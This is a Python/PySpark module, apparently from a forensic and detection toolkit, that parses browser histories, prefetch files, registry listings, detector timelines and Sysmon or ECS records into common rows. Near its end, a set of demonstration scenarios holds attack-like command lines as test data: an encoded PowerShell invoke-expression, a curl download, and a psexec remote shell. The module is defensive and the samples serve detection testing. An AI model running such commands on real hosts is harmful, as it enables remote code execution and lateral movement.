"""Artefacts of hosts as rows: browser histories, prefetch files, registry listings, and other tools' records."""

from __future__ import annotations

import io
import zipfile
from bz2 import BZ2File
from collections.abc import Iterator

import pyarrow as pa
from pyspark.sql import Column, DataFrame, SparkSession, Window
from pyspark.sql import functions as F

from tracemill.functions import text as T

ARTIFACT_KEYS = ("timestamp", "host", "source", "event_id", "level", "user", "command_line", "message")
# Queries of the two families of browsers.
HISTORY = {
    "chromium": "SELECT visits.id, urls.url, urls.title, visits.visit_time FROM visits JOIN urls ON visits.url = urls.id WHERE visits.visit_time > 0",
    "firefox": "SELECT v.id, p.url, p.title, v.visit_date FROM moz_historyvisits v JOIN moz_places p ON v.place_id = p.id WHERE v.visit_date > 0",
}


def _visits(kind: str):
    def run(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        import sqlite3

        for batch in batches:
            for path, content in zip(batch.column("path").to_pylist(), batch.column("content").to_pylist(), strict=True):
                base = sqlite3.connect(":memory:")
                try:
                    base.deserialize(content)
                    cursor = base.execute(HISTORY[kind])
                    while rows := cursor.fetchmany(10_000):
                        columns = list(zip(*rows, strict=True))
                        times = [t if isinstance(t, int) else None for t in columns[3]]
                        texts = [pa.array([str(v) if v is not None else None for v in c]) for c in columns[1:3]]
                        yield pa.RecordBatch.from_arrays([pa.array([path] * len(rows)), pa.array(columns[0], pa.int64()), *texts, pa.array(times, pa.int64())], names=["path", "visit", "url", "title", "visit_time"])
                except sqlite3.DatabaseError:
                    continue  # not a database, or another layout: like an absent profile
                finally:
                    base.close()

    return run


def browser_history(spark: SparkSession, folder: str, kind: str = "chromium") -> DataFrame:
    """(path, visit, url, title, timestamp) of all visits in the profile databases under a folder, each database one row of bytes.

    Databases are read as they were copied, with their log merged by the copy; times that can't be read are left out.
    """
    name = "History" if kind == "chromium" else "places.sqlite"
    files = spark.read.format("binaryFile").option("recursiveFileLookup", "true").option("pathGlobFilter", name).load(folder)
    read = files.select("path", "content").mapInArrow(_visits(kind), "path string, visit long, url string, title string, visit_time long")
    time = T.webkit_time(F.col("visit_time")) if kind == "chromium" else T.unix_micros_time(F.col("visit_time"))
    return read.select("path", "visit", "url", "title", time.alias("timestamp")).where("timestamp <> ''")


def prefetch(files: DataFrame) -> DataFrame:
    """Executions told by prefetch files (path, modificationTime): NAME.EXE-XXXXXXXX.pf gives name and hash."""
    parts = [F.regexp_extract("path", r"(?i)([^/\\]+)-([0-9A-F]{8})\.pf$", k) for k in (1, 2)]
    return files.select(parts[0].alias("executable"), F.upper(parts[1]).alias("hash"), F.col("modificationTime").alias("seen"), "path").where("executable <> ''")


_VALUE = r"^\s+(.+?)\s{2,}(REG_\w+)\s{2,}(.*)$"


def registry_values(lines: DataFrame) -> DataFrame:
    """(key, name, type, data) of the lines (file, line, value) of a registry listing; a value belongs to the key line before it."""
    order = Window.partitionBy("file").orderBy("line").rowsBetween(Window.unboundedPreceding, 0)
    key = F.last(F.when(F.col("value").rlike("^HK"), F.trim("value")), ignorenulls=True).over(order)
    read = lines.select("file", "line", key.alias("key"), *[F.regexp_extract("value", _VALUE, k).alias(n) for k, n in ((1, "name"), (2, "type"), (3, "data"))])
    return read.where("type <> ''")


def usb_devices(lines: DataFrame) -> DataFrame:
    """One row per device instance of a USB registry tree with its friendly name and description."""
    values = registry_values(lines)
    at = lambda name: F.max(F.when(F.col("name") == name, F.col("data")))
    parts = F.split("key", r"\\")
    return values.groupBy("file", "key").agg(at("FriendlyName").alias("friendly_name"), at("DeviceDesc").alias("description")).where("friendly_name IS NOT NULL OR description IS NOT NULL").select("file", F.element_at(parts, -2).alias("device"), F.element_at(parts, -1).alias("serial"), "friendly_name", "description")


def normalised(rows: DataFrame) -> DataFrame:
    """Artefacts with the eight common keys, empty where they have none, and the whole row in ``raw``."""
    shown = [F.coalesce(F.col(c).cast("string"), F.lit("")).alias(c) if c in rows.columns else F.lit("").alias(c) for c in ARTIFACT_KEYS]
    return rows.select(*shown, F.to_json(F.struct(*[rows[c] for c in rows.columns])).alias("raw"))


def union(*artifacts: DataFrame) -> DataFrame:
    """All kinds of artefacts in one frame."""
    first, *others = map(normalised, artifacts)
    for other in others:
        first = first.unionByName(other)
    return first


def _members(suffix: str):
    def run(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        for batch in batches:
            for path, content in zip(batch.column("path").to_pylist(), batch.column("content").to_pylist(), strict=True):
                with zipfile.ZipFile(io.BytesIO(content)) as box:
                    for name in sorted(n for n in box.namelist() if n.endswith((suffix, f"{suffix}.bz2"))):
                        with box.open(name) as raw:
                            lines, number = (BZ2File(raw) if name.endswith(".bz2") else raw), 0
                            while chunk := lines.readlines(1 << 20):
                                values = [v.decode("utf-8", "replace").rstrip("\r\n") for v in chunk]
                                yield pa.RecordBatch.from_arrays([pa.array([path] * len(values)), pa.array([name] * len(values)), pa.array(range(number, number + len(values)), pa.int64()), pa.array(values)], names=["path", "member", "line", "value"])
                                number += len(values)

    return run


def archived_lines(spark: SparkSession, folder: str, suffix: str = ".jsonl") -> DataFrame:
    """(path, member, line, value) of the text members, plain or bz2, of the ZIP files under a folder; members stream, an archive is one row."""
    files = spark.read.format("binaryFile").option("recursiveFileLookup", "true").option("pathGlobFilter", "*.zip").load(folder)
    return files.select("path", "content").mapInArrow(_members(suffix), "path string, member string, line long, value string")


# Levels of another detector's timeline.
DETECTOR_LEVELS = {"crit": "critical", "critical": "critical", "high": "high", "med": "medium", "medium": "medium", "low": "low", "info": "low", "informational": "low"}


def detector_findings(timeline: DataFrame) -> DataFrame:
    """Findings of an external detector's timeline (Timestamp, Computer, Channel, EventID, Level, RecordID, RuleTitle, RuleID, MitreTags, Details), each once."""
    levels = F.create_map(*[F.lit(x) for pair in DETECTOR_LEVELS.items() for x in pair])
    tags = F.transform(F.filter("MitreTags", lambda t: F.upper(t).rlike(r"T\d{4}")), lambda t: F.regexp_extract(F.upper(t), r"\bT\d{4}(?:\.\d{3})?\b", 0))
    found = timeline.select(
        F.coalesce(T.filled(F.col("RuleID")), "RuleTitle").alias("rule_id"), F.col("RuleTitle").alias("rule_name"), F.coalesce(levels[F.lower("Level")], F.lit("medium")).alias("severity"), F.get(tags, F.lit(0)).alias("technique"),
        F.col("Timestamp").alias("timestamp"), F.col("Computer").alias("host"), F.col("Channel").alias("source"), F.col("EventID").cast("string").alias("event_id"), F.col("RecordID").cast("string").alias("record_id"),
        F.substring(F.to_json("Details"), 1, 2000).alias("matched_context"),
    )
    return found.dropDuplicates(["rule_id", "timestamp", "host", "event_id", "record_id"])


def console_steps(lines: DataFrame) -> DataFrame:
    """(step, ts_us, action) of an attack console's lines (line, value) that begin with a time in brackets; the order of lines is the order of steps."""
    time, action = F.regexp_extract("value", r"^\[?(\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(?:\.\d+)?Z?)\]?\s+(.*)$", 1), F.regexp_extract("value", r"^\[?(\d{4}-\d\d-\d\d[T ]\d\d:\d\d:\d\d(?:\.\d+)?Z?)\]?\s+(.*)$", 2)
    read = lines.select("line", F.unix_micros(F.nullif(time, F.lit("")).try_cast("timestamp")).alias("ts_us"), action.alias("action")).where("ts_us IS NOT NULL")
    return read.withColumn("step", F.row_number().over(Window.orderBy("line"))).select("step", "ts_us", "action")  # the steps of one attack


def ecs_event(record: Column) -> Column:
    """Flat fields of an ECS record as JSON text: the event data before the process block."""
    at = lambda path: F.nullif(F.get_json_object(record, path), F.lit(""))
    first = lambda *paths: F.coalesce(*map(at, paths))
    domain, name = first("$.winlog.user.domain", "$.user.domain"), first("$.winlog.user.name", "$.user.name")
    return F.struct(
        at("$['@timestamp']").alias("timestamp"), F.coalesce(first("$.winlog.computer_name", "$.host.name"), F.lit("unknown")).alias("host"), F.coalesce(first("$.winlog.provider_name", "$.event.provider"), F.lit("unknown")).alias("source"),
        first("$.winlog.event_id", "$.event.code").alias("event_id"), F.when(name.isNotNull(), F.concat_ws("\\", domain, name)).alias("user"), first("$.winlog.event_data.CommandLine", "$.process.command_line").alias("command_line"),
        first("$.winlog.event_data.Image", "$.process.executable").alias("image"), first("$.winlog.event_data.ParentImage", "$.process.parent.executable").alias("parent_image"), first("$.winlog.channel").alias("channel"), first("$.winlog.record_id").alias("record_id"),
    )


# Event ids of a published attack data set's records by object and action, and its names of fields.
HOST_EVENT_IDS = {"process|create": "1", "process|terminate": "5", "flow|start": "3", "file|create": "11", "registry|add": "12", "registry|edit": "13", "registry|remove": "12", "thread|remote_create": "8", "module|load": "7", "driver|load": "6"}
FIELD_NAMES = {"command_line": "CommandLine", "image_path": "Image", "exe": "Image", "parent_image_path": "ParentImage", "pid": "ProcessId", "ppid": "ParentProcessId", "user": "User"}


def host_record(record: Column) -> Column:
    """Flat fields of a host sensor's record (type, data_model of object, action and fields) as JSON text; the first known action gives the event id."""
    model = F.from_json(F.get_json_object(record, "$.data_model"), "object string, action string, fields map<string,string>")
    actions = F.when(model["action"].startswith("["), F.from_json(model["action"], "array<string>")).otherwise(F.array(model["action"]))
    ids = F.create_map(*[F.lit(x) for pair in HOST_EVENT_IDS.items() for x in pair])
    known = F.filter(F.transform(actions, lambda a: ids[F.concat_ws("|", F.lower(F.trim(model["object"])), F.lower(F.trim(a)))]), lambda i: i.isNotNull())
    folded = F.transform_keys(F.coalesce(model["fields"], F.create_map().cast("map<string,string>")), lambda k, _: F.lower(k))
    named = F.transform_keys(F.map_filter(folded, lambda k, _: k.isin(*[n for n in FIELD_NAMES if n != "exe"])), lambda k, _: F.create_map(*[F.lit(x) for p in FIELD_NAMES.items() for x in p])[k])
    hashes = F.concat_ws(",", *[F.concat(F.lit(f"{label}="), folded[name]) for name, label in (("md5_hash", "MD5"), ("sha1_hash", "SHA1"), ("sha256_hash", "SHA256"))])
    time = F.coalesce(F.nullif(folded["utc_time"], F.lit("")), F.get_json_object(record, "$['@timestamp']"), F.lit(""))
    return F.struct(
        time.alias("timestamp"), F.coalesce(F.nullif(F.get_json_object(record, "$.host"), F.lit("")), F.lit("unknown")).alias("host"), F.lit("Microsoft-Windows-Sysmon").alias("source"),
        F.coalesce(F.get(known, F.lit(0)), F.lit("")).alias("event_id"), F.coalesce(folded["user"], F.lit("")).alias("user"), F.nullif(folded["command_line"], F.lit("")).alias("command_line"),
        named.alias("event_data"), F.nullif(hashes, F.lit("")).alias("hashes"),
    )


_NODES = "array<struct<id:string,nodetype:string,events:array<string>,techniques:array<struct<technique_id:string>>,host:string,time:string,happened_after:string,happened_before:string>>"


def ground_truth(records: DataFrame) -> DataFrame:
    """(record, step, technique, host, time, happened_after, happened_before) of the steps in records (record, value) of nested nodes; events are resolved by id within the record."""
    nodes = records.select("record", F.from_json(F.get_json_object("value", "$.bsf"), _NODES).alias("n"))
    steps = nodes.select("record", "n", F.explode(F.filter("n", lambda x: x["nodetype"] == "step")).alias("s"))
    events = F.filter("n", lambda x: (x["nodetype"] == "event") & F.array_contains(F.col("s.events"), x["id"]))
    return steps.select("record", F.col("s.id").alias("step"), F.explode_outer(F.transform("s.techniques", lambda t: t["technique_id"])).alias("technique"), events.alias("e")).select("record", "step", "technique", F.explode_outer("e").alias("e")).select("record", "step", "technique", "e.host", "e.time", "e.happened_after", "e.happened_before")


# Demonstrations: (id, name, tactics, expected techniques, steps of (host, event id, user, command)).
DEMOS = (
    ("encoded_download", "Encoded download", ("Execution", "Command and Control"), ("T1059.001", "T1105"), (("WS-01", "4688", "LAB\\ann", "powershell -enc SUVYKCR4KQ=="), ("WS-01", "4688", "LAB\\ann", "curl http://example.com/a"))),
    ("remote_service", "Remote service", ("Lateral Movement",), ("T1569.002",), (("WS-01", "4688", "LAB\\bob", "psexec.exe \\\\WS-02 cmd"), ("WS-02", "4688", "LAB\\bob", "C:\\Windows\\PSEXESVC.exe"))),
    ("plain_work", "Plain work", (), (), (("WS-03", "4688", "LAB\\eve", "notepad.exe"),)),
)


def demo_events(spark: SparkSession, *ids: str) -> DataFrame:
    """JSON lines of demonstrations, all or by id, with what they are to show in every record."""
    rows = [(i, name, list(tactics), list(techniques), [list(s) for s in steps]) for i, name, tactics, techniques, steps in DEMOS if not ids or i in ids]
    demos = spark.createDataFrame(rows, "id string, name string, tactics array<string>, techniques array<string>, steps array<array<string>>")
    each = demos.select("*", F.posexplode("steps").alias("k", "s"))
    time = F.date_format(F.timestamp_seconds(F.lit(1767225600) + F.col("k") * 5), "yyyy-MM-dd'T'HH:mm:ss'Z'")
    record = F.struct(
        time.alias("timestamp"), F.col("s")[0].alias("host"), F.lit("ProcessCreate").alias("source"), F.col("s")[1].alias("event_id"), F.col("s")[2].alias("user"), F.col("s")[3].alias("command_line"),
        F.col("id").alias("sample_scenario_id"), F.col("name").alias("sample_scenario_name"), F.col("tactics").alias("sample_primary_tactics"), F.col("techniques").alias("sample_expected_techniques"), (F.col("k") + 1).alias("sample_event_index"),
    )
    return each.select(F.monotonically_increasing_id().alias("ord"), F.to_json(record).alias("value"))


def demo_summary(events: DataFrame, findings: DataFrame) -> DataFrame:
    """By embedded demonstration its events, hosts, findings, and expected and seen techniques."""
    at = lambda name: F.get_json_object("raw", f"$.{name}")
    own = events.select("ord", "host", at("sample_scenario_id").alias("id"), F.from_json(at("sample_expected_techniques"), "array<string>").alias("expected")).where("id IS NOT NULL")
    told = own.groupBy("id").agg(F.count("*").alias("n_events"), F.countDistinct("host").alias("n_hosts"), F.any_value("expected").alias("expected"))
    seen = findings.select("ord", "technique").join(own.select("ord", "id"), "ord").groupBy("id").agg(F.count("*").alias("n_findings"), F.array_sort(F.collect_set("technique")).alias("techniques"))
    return told.join(seen, "id", "left").na.fill(0, ["n_findings"])
